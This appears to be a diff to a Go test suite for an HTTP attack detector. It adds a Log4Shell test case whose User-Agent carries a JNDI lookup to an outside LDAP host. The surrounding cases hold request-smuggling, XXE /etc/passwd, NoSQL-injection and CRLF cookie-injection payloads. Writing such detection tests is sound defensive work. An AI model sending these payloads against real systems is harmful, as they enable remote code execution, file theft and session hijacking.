@@ -82,6 +82,7 @@ var attackCases = []httpCase{
 	{Name: "smuggling two content-lengths", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-cl HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 11\r\n\r\nq=1GET / HT"},
 	{Name: "smuggling obfuscated te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=te-obf HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\n"},
 	{Name: "log4shell header, slow body", Want: threat.Log4Shell, Raw: "POST /api/v1/events?slow=1 HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9:1389/slow}\r\nContent-Type: application/json\r\nContent-Length: 12\r\n\r\n{\"a\":" + pause + "\"b\"}   "},
+	{Name: "log4shell header, stalled body", Want: threat.Log4Shell, Raw: "POST /api/v1/events?stalled=1 HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9:1389/stall}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{\"a\":"},
 	{Name: "xxe external entity", Want: threat.XXE, Method: "POST", Target: "/api/v1/import", Headers: []string{"Content-Type: application/xml"}, Body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`},
 	{Name: "nosql operator injection", Want: threat.NoSQLInjection, Method: "GET", Target: "/login?username%5B%24ne%5D=admin&password%5B%24ne%5D=x"},
 	{Name: "crlf header injection", Want: threat.CRLFInjection, Method: "GET", Target: "/redirect?to=%0d%0aSet-Cookie:%20session%3Dattacker"},
